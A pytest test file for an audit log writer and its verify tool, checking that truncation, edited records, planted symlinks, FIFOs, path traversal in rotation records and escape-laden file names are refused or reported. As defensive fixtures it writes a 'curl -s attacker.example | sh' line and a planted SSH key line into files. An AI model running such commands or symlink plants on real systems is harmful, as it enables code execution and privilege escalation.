"""Someone who can write the audit directory but does not hold the sealing key edits the log after
the fact: every change that removes or alters sealed records must make `adl-audit verify` fail."""

from __future__ import annotations

import hashlib
import os
import subprocess
import sys
import time
from pathlib import Path

import orjson
import pytest

from enforcer.audit import AuditUnavailable, AuditWriter, WriterSettings, records
from enforcer.audit.writer import log_files
from enforcer.cli.audit import main as audit_main

from ..helpers.audit_logs import verify_cli


def _sealed_log(tmp_path: Path, **settings: int) -> Path:
    directory = tmp_path / "audit"
    options = WriterSettings(checkpoint_records=15, **settings)  # type: ignore[arg-type]
    with AuditWriter(directory, tmp_path / "key" / "audit.pem", settings=options) as w:
        for i in range(60):
            w.append(records.DECISION, {"agent": "urn:a", "decision": "deny", "n": i})
    return directory


def test_cutting_the_log_back_to_a_checkpoint_and_removing_head_is_named(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    directory = _sealed_log(tmp_path)
    assert verify_cli(directory, capsys)[0] == 0
    path = log_files(directory)[0]
    lines = path.read_bytes().splitlines(keepends=True)
    checkpoints = [i for i, line in enumerate(lines) if b'"intent":"adl.enforcer.checkpoint"' in line]
    kept = checkpoints[1] + 1  # every record after the second checkpoint goes, writer.close included
    path.write_bytes(b"".join(lines[:kept]))
    (directory / "HEAD.json").unlink()
    code, out = verify_cli(directory, capsys)
    assert code == 2, out
    assert f"TAMPERED at seq {kept + 1}: HEAD.json is missing" in out


def test_a_log_never_sealed_needs_no_head(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    directory = _sealed_log(tmp_path)
    path = log_files(directory)[0]
    lines = path.read_bytes().splitlines(keepends=True)
    first_checkpoint = next(i for i, line in enumerate(lines) if b'"intent":"adl.enforcer.checkpoint"' in line)
    path.write_bytes(b"".join(lines[:first_checkpoint]))
    (directory / "HEAD.json").unlink()
    code, out = verify_cli(directory, capsys)
    assert code == 0, out
    assert "unsealed:" in out


def test_a_file_name_chosen_by_the_tamperer_reaches_the_terminal_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    directory = _sealed_log(tmp_path)
    (directory / "audit-\x1b]0;owned\x07\x1b[2J.jsonl").write_bytes(b"")
    code, out = verify_cli(directory, capsys)
    assert code == 2, out
    assert "TAMPERED at seq 1:" in out and "\\x1b]0;owned" in out
    assert "\x1b" not in out and "\x07" not in out


def _victim(tmp_path: Path) -> Path:
    """An empty file root owns (a file that is not empty does not end in a record: refused anyway)."""
    victim = tmp_path / "victim-rc"
    victim.write_text("")
    return victim


def test_the_writer_does_not_follow_a_symlinked_log_file(tmp_path: Path) -> None:
    """Whoever can write the audit directory makes the newest log file a symlink: the daemon (root)
    would append records, whose strings callers chose, to the file it names."""
    directory = _sealed_log(tmp_path, rotate_bytes=4000)  # the file before names the newest
    assert len(log_files(directory)) > 2
    victim = _victim(tmp_path)
    newest = log_files(directory)[-1]
    newest.rename(directory / "saved.jsonl")
    newest.symlink_to(victim)
    with pytest.raises(AuditUnavailable):
        AuditWriter(directory, tmp_path / "key" / "audit.pem").close()
    assert victim.read_text() == ""


def _rotation_to(directory: Path, next_file: str, payload: dict[str, object] | None = None) -> None:
    """Append a rotation marker (its hash recomputed: the chain is unkeyed) naming `next_file`
    (its payload `payload` instead, when given)."""
    path = log_files(directory)[-1]
    lines = path.read_bytes().splitlines(keepends=True)
    last = orjson.loads(lines[-1])
    seq = last["seq"] + 1
    head, tail = records.envelope_parts(
        log_id=last["id"].rsplit(".", 1)[0],
        seq=seq,
        prev=last["hash"],
        ts_ns=time.time_ns(),
        kind=records.ROTATE,
        source="adl-enforcer",
        corr="x",
        payload={"next_file": next_file} if payload is None else payload,
    )
    digest = hashlib.sha256(head + tail).hexdigest()
    path.write_bytes(b"".join(lines) + head + b',"hash":"' + digest.encode() + b'"' + tail + b"\n")
    assert records.check_line_hash(path.read_bytes().splitlines()[-1]) is None


def test_the_writer_does_not_follow_a_rotation_out_of_the_directory(tmp_path: Path) -> None:
    directory = _sealed_log(tmp_path, rotate_bytes=4000)
    victim = _victim(tmp_path)
    _rotation_to(directory, f"../{victim.name}")
    with pytest.raises(AuditUnavailable):
        AuditWriter(directory, tmp_path / "key" / "audit.pem").close()
    assert victim.read_text() == ""


def test_the_writer_refuses_a_rotation_record_that_names_no_file(tmp_path: Path) -> None:
    """An edited rotation record without next_file is a log the writer cannot continue: refused as
    such (AuditUnavailable, which launches and the daemon report), not a crash."""
    directory = _sealed_log(tmp_path, rotate_bytes=4000)
    _rotation_to(directory, "", payload={"moved_to": "elsewhere"})
    with pytest.raises(AuditUnavailable, match="not the next log file"):
        AuditWriter(directory, tmp_path / "key" / "audit.pem").close()


def test_follow_does_not_read_a_file_a_rotation_record_names_outside_the_directory(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    directory = _sealed_log(tmp_path, rotate_bytes=4000)
    secret = tmp_path / "secret.json"
    secret.write_text('{"token": "s3cr3t"}\n')
    _rotation_to(directory, f"../{secret.name}")
    code = audit_main(["--dir", str(directory), "follow", "--from-start", "--interval", "0.01"])
    captured = capsys.readouterr()
    assert "s3cr3t" not in captured.out
    assert code == 2 and "not the next log file" in captured.err


@pytest.mark.skipif(os.geteuid() != 0, reason="hands the directory to another uid")
def test_a_directory_another_user_owns_is_refused(tmp_path: Path) -> None:
    """An operator points the log at a directory another user made first (under /tmp, say). Its
    owner sets a torn line aside in advance: the next writer (root) moves the torn bytes to
    torn/<file>.<offset>, which the owner made a symlink to a file root's shell reads."""
    directory = _sealed_log(tmp_path)
    victim = tmp_path / "victim-rc"
    victim.write_text("# root's shell reads this\n")
    newest = log_files(directory)[-1]
    kept = newest.read_bytes()
    # what the directory's owner can do: replace a file of root's by its own copy, plant names
    os.chown(directory, 65534, 65534)
    copy = directory / "copy"
    copy.write_bytes(kept + b"curl -s attacker.example | sh")
    copy.replace(newest)
    (directory / "torn").mkdir()
    (directory / "torn" / f"{newest.name}.{len(kept)}").symlink_to(victim)
    with pytest.raises(AuditUnavailable, match="owned by uid 65534"):
        AuditWriter(directory, tmp_path / "key" / "audit.pem").close()
    assert victim.read_text() == "# root's shell reads this\n"


@pytest.mark.skipif(os.geteuid() != 0, reason="hands a directory to another uid")
def test_a_directory_below_one_another_user_can_write_is_refused(tmp_path: Path) -> None:
    parent = tmp_path / "shared"
    parent.mkdir()
    os.chown(parent, 65534, 65534)  # its owner can rename the log directory away and put its own in place
    with pytest.raises(AuditUnavailable, match="owned by uid 65534"):
        AuditWriter(parent / "audit", tmp_path / "key" / "audit.pem").close()
    group_writable = tmp_path / "group"
    group_writable.mkdir(mode=0o770)
    group_writable.chmod(0o770)
    with pytest.raises(AuditUnavailable, match="writable by group or others"):
        AuditWriter(group_writable, tmp_path / "key" / "audit.pem").close()


EDITED_LINES = [
    b'{"seq":41,"intent":"adl.enforcer.decision","corr":[1],"ts":5,"payload":{"rules":5,"decision":"deny"}}',
    b'{"seq":41,"intent":"adl.enforcer.decision","payload":{"rules":{"a":1},"decision":"deny"}}',
    b'{"seq":41,"intent":"adl.enforcer.exit","corr":{"a":1},"payload":{"rules":[1,null],"decision":"deny"}}',
    b'{"seq":41,"intent":"adl.enforcer.launch","corr":"s","ts":[],"payload":[]}',
    b'{"seq":[],"prev":{},"intent":1}',
]
EDITED_HEADS = [b'{"seq":"x","hash":1,"sig":5}', b'{"seq":null,"hash":null,"sig":null}']
READERS = [
    ("search",),
    ("search", "--json"),
    ("search", "--seq", "1..50"),
    ("search", "--since", "-1d"),
    ("search", "--rule", "x*"),
    ("report",),
    ("report", "--json"),
    ("show", "41"),
]


@pytest.mark.parametrize("edit", [("line", e) for e in EDITED_LINES] + [("head", e) for e in EDITED_HEADS])
def test_an_edited_line_or_head_is_reported_not_a_crash(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], edit: tuple[str, bytes]
) -> None:
    """An edited log must not stop the auditor's tools: verify names it (exit 2, which scripts test
    for: a crash exits 1), the readers go on with the other records."""
    directory = _sealed_log(tmp_path)
    where, data = edit
    if where == "head":
        (directory / "HEAD.json").write_bytes(data)
    else:
        path = log_files(directory)[0]
        path.write_bytes(path.read_bytes() + data + b"\n")
    code, out = verify_cli(directory, capsys)
    assert code == 2 and "TAMPERED" in out, out
    for argv in READERS:
        assert audit_main(["--dir", str(directory), *argv]) in (0, 1), argv
        capsys.readouterr()


@pytest.mark.skipif(os.geteuid() != 0, reason="plants a symlink as another uid")
def test_a_directory_named_through_another_users_symlink_is_refused(tmp_path: Path) -> None:
    """The operator names /tmp/adl-audit; another user made that name a symlink first, to a
    directory of root's where the log's files would be read as something else."""
    shared = tmp_path / "sticky"
    shared.mkdir()
    shared.chmod(0o1777)
    target = tmp_path / "roots-dir"
    target.mkdir()
    link = shared / "adl-audit"
    link.symlink_to(target)
    os.chown(link, 65534, 65534, follow_symlinks=False)
    with pytest.raises(AuditUnavailable, match="symlink of uid 65534"):
        AuditWriter(link, tmp_path / "key" / "audit.pem").close()
    assert list(target.iterdir()) == []


def test_a_live_log_has_its_head_from_its_first_checkpoint_on(tmp_path: Path) -> None:
    """verify takes a checkpoint without HEAD for a cut log (above): a writer that defers HEAD to
    its flusher must not leave its first checkpoint in that state, or a verify at that moment
    would cry wolf."""
    directory = tmp_path / "audit"
    settings = WriterSettings(background_flush=True, checkpoint_records=5, group_ms=10_000, group_records=10_000)
    writer = AuditWriter(directory, tmp_path / "key" / "audit.pem", settings=settings)
    try:
        seq = 0
        while not any(b'"intent":"adl.enforcer.checkpoint"' in line for line in _lines(directory)):
            seq = writer.append(records.DECISION, {"n": seq}).seq
            assert seq < 50
        assert (directory / "HEAD.json").exists()
    finally:
        writer.close()


def _lines(directory: Path) -> list[bytes]:
    return [line for path in log_files(directory) for line in path.read_bytes().splitlines()]


@pytest.mark.skipif(os.geteuid() != 0, reason="hands a directory to another uid")
def test_a_refused_log_directory_is_not_created_first(tmp_path: Path) -> None:
    """The refusal comes before the log's directories (and the sealing key) are made: made first,
    they would be left in a place another user controls, ready for the next writer."""
    parent = tmp_path / "shared"
    parent.mkdir()
    os.chown(parent, 65534, 65534)
    with pytest.raises(AuditUnavailable, match=f"{parent} is owned by uid 65534"):
        AuditWriter(parent / "audit" / "daemon", tmp_path / "key" / "audit.pem").close()
    assert list(parent.iterdir()) == []
    assert not (tmp_path / "key").exists()
    group_writable = tmp_path / "group"
    group_writable.mkdir()
    group_writable.chmod(0o775)
    with pytest.raises(AuditUnavailable, match=f"{group_writable} is writable by group or others"):
        AuditWriter(group_writable / "audit", tmp_path / "key" / "audit.pem").close()
    assert list(group_writable.iterdir()) == []


def test_a_head_copied_from_another_log_sealed_with_the_same_key_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """HEAD may name the record before a log's first checkpoint, not only a checkpoint: the record
    at the seq it names must still be the one it names. Another log sealed with the same key (the
    daemon's and adl-exec's, say) has a valid HEAD of its own: copied here it must not pass."""
    directory = _sealed_log(tmp_path)
    other = tmp_path / "other"
    with AuditWriter(other, tmp_path / "key" / "audit.pem", settings=WriterSettings(checkpoint_records=5)) as w:
        for i in range(8):
            w.append(records.DECISION, {"agent": "urn:b", "n": i})
    head = orjson.loads((other / "HEAD.json").read_bytes())
    (directory / "HEAD.json").write_bytes((other / "HEAD.json").read_bytes())
    code, out = verify_cli(directory, capsys)
    assert code == 2, out
    assert f"TAMPERED at seq {head['seq']}: seq {head['seq']} is not the record the signed head names" in out


@pytest.mark.skipif(os.geteuid() != 0, reason="hands a directory to another uid")
def test_a_signing_key_in_a_directory_another_user_may_write_is_refused(tmp_path: Path) -> None:
    """The key seals the log: whoever may write its directory can swap in a key of their own, edit
    the log and seal it again, and verify (which takes the key the log names) would pass it."""
    shared = tmp_path / "shared"
    shared.mkdir()
    os.chown(shared, 65534, 65534)
    with pytest.raises(AuditUnavailable, match=f"{shared} is owned by uid 65534"):
        AuditWriter(tmp_path / "audit", shared / "keys" / "audit.pem").close()
    assert list(shared.iterdir()) == []
    group_writable = tmp_path / "keys"
    group_writable.mkdir()
    group_writable.chmod(0o770)
    with pytest.raises(AuditUnavailable, match=f"{group_writable} is writable by group or others"):
        AuditWriter(tmp_path / "audit", group_writable / "audit.pem").close()
    assert list(group_writable.iterdir()) == []


def test_a_log_cut_back_and_sealed_again_by_the_next_writer_says_head_was_missing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The cut above, then the next writer (a restart, the next session) seals the log again: the new
    HEAD names what is left, so the cut itself no longer shows. The writer, finding a sealed log
    without HEAD, says so in the chain before it writes one."""
    directory = _sealed_log(tmp_path)
    path = log_files(directory)[0]
    lines = path.read_bytes().splitlines(keepends=True)
    checkpoints = [i for i, line in enumerate(lines) if b'"intent":"adl.enforcer.checkpoint"' in line]
    kept = checkpoints[1] + 1
    path.write_bytes(b"".join(lines[:kept]))
    (directory / "HEAD.json").unlink()
    with AuditWriter(directory, tmp_path / "key" / "audit.pem") as w:
        w.append(records.DECISION, {"agent": "urn:a", "decision": "deny", "n": "after"})
    code, out = verify_cli(directory, capsys)
    assert code == 0, out
    # writer.open, the decision and writer.close come after the cut; then the gap, then the checkpoint
    assert f"gap at seq {kept + 4}: head_missing (last_seq_before_detection={kept + 3})" in out, out


def test_the_writer_does_not_follow_a_symlink_planted_as_heads_temporary_file(tmp_path: Path) -> None:
    """Whoever can write the audit directory learns a live writer's id (its entry in writers/, its
    records) and plants a symlink where that writer writes HEAD.json's next version before the
    rename: root's writer truncated and wrote the file it named. It must create that file itself,
    the caller's umask notwithstanding (HEAD.json is public, never writable by the directory's group)."""
    directory = _sealed_log(tmp_path)
    victim = _victim(tmp_path)
    victim.write_text("precious")
    old_umask = os.umask(0)
    try:
        with AuditWriter(directory, tmp_path / "key" / "audit.pem", settings=WriterSettings(checkpoint_records=5)) as w:
            (writer_id,) = os.listdir(directory / "writers")
            (directory / f"HEAD.tmp.{writer_id}").symlink_to(victim)
            for i in range(20):
                w.append(records.DECISION, {"agent": "urn:a", "decision": "deny", "n": i})
    finally:
        os.umask(old_umask)
    assert victim.read_text() == "precious"
    head = directory / "HEAD.json"
    assert not head.is_symlink() and head.stat().st_mode & 0o7777 == 0o644
    assert orjson.loads(head.read_bytes())["seq"] > 60
    assert audit_main(["--dir", str(directory), "verify"]) == 0


@pytest.mark.parametrize("lock", ["HEAD.lock", "audit.lock"])
def test_the_writer_does_not_create_the_file_a_planted_lock_symlink_names(tmp_path: Path, lock: str) -> None:
    """A lock file made a symlink to a path that does not exist: root's writer created that file (in
    any directory: an empty file in the right place, such as /etc/nologin, has effects of its own)."""
    directory = _sealed_log(tmp_path)
    victim = tmp_path / "nologin"
    (directory / lock).unlink()
    (directory / lock).symlink_to(victim)
    with pytest.raises(AuditUnavailable):
        AuditWriter(directory, tmp_path / "key" / "audit.pem").close()
    assert not victim.exists()


@pytest.mark.parametrize("planted", ["file", "directory"])
def test_a_torn_tail_is_not_set_aside_through_a_planted_symlink(tmp_path: Path, planted: str) -> None:
    """The writer moves a torn last line to torn/<file>.<offset> (both names predictable): a symlink
    planted there, or torn/ itself a symlink, had root write the tail's bytes, which whoever tore the
    file chose, into the file it names (an authorized_keys line needs no newline)."""
    directory = _sealed_log(tmp_path)
    newest = log_files(directory)[-1]
    end = newest.stat().st_size
    with newest.open("ab") as f:
        f.write(b"ssh-ed25519 AAAA planted")
    victim_dir = tmp_path / "elsewhere"
    victim_dir.mkdir()
    victim = victim_dir / f"{newest.name}.{end}"
    if planted == "file":
        (directory / "torn").mkdir()
        (directory / "torn" / victim.name).symlink_to(victim)
    else:
        (directory / "torn").symlink_to(victim_dir)
    victim.write_text("precious")
    with pytest.raises(AuditUnavailable):  # as for a symlinked log file: the directory was tampered with
        AuditWriter(directory, tmp_path / "key" / "audit.pem").close()
    assert victim.read_text() == "precious"


def test_a_fifo_planted_as_head_does_not_hold_the_writer(tmp_path: Path) -> None:
    """HEAD.json replaced by a FIFO nobody writes: root's writer, reading the current HEAD before it
    replaces it, waited on it for good (its appends held behind the HEAD lock). It must replace it.
    The writer runs in a child: a hang is bounded and reported."""
    directory = _sealed_log(tmp_path)
    (directory / "HEAD.json").unlink()
    os.mkfifo(directory / "HEAD.json")
    code = (
        "import sys; from pathlib import Path; from enforcer.audit import AuditWriter, WriterSettings, records\n"
        "with AuditWriter(Path(sys.argv[1]), Path(sys.argv[2]), settings=WriterSettings(checkpoint_records=5)) as w:\n"
        "    for i in range(20):\n"
        "        w.append(records.DECISION, {'agent': 'urn:a', 'decision': 'deny', 'n': i})\n"
    )
    key = tmp_path / "key" / "audit.pem"
    try:
        done = subprocess.run([sys.executable, "-c", code, str(directory), str(key)], timeout=30, capture_output=True)
    except subprocess.TimeoutExpired:
        pytest.fail("the writer waited on a FIFO planted as HEAD.json")
    assert done.returncode == 0, done.stderr.decode()[-2000:]
    head = directory / "HEAD.json"
    assert head.is_file() and not head.is_symlink() and orjson.loads(head.read_bytes())["seq"] > 60


@pytest.mark.parametrize("planted", ["fifo", "symlink"])
def test_verify_names_a_head_that_is_not_a_file_without_waiting_on_it(tmp_path: Path, planted: str) -> None:
    """verify read HEAD.json as a file, through a symlink and from a FIFO (where it waited for good):
    neither is a head a writer makes. verify runs in a child: a hang is bounded and reported."""
    directory = _sealed_log(tmp_path)
    head = directory / "HEAD.json"
    saved = tmp_path / "HEAD-copy.json"
    head.rename(saved)
    if planted == "fifo":
        os.mkfifo(head)
    else:
        head.symlink_to(saved)  # the right bytes, by a name a writer never makes
    code = "import sys; from enforcer.cli.audit import main; sys.exit(main(['--dir', sys.argv[1], 'verify']))"
    try:
        done = subprocess.run([sys.executable, "-c", code, str(directory)], timeout=30, capture_output=True, text=True)
    except subprocess.TimeoutExpired:
        pytest.fail("verify waited on HEAD.json")
    assert done.returncode == 2, done.stdout + done.stderr
    assert "HEAD.json is unreadable" in done.stderr, done.stderr
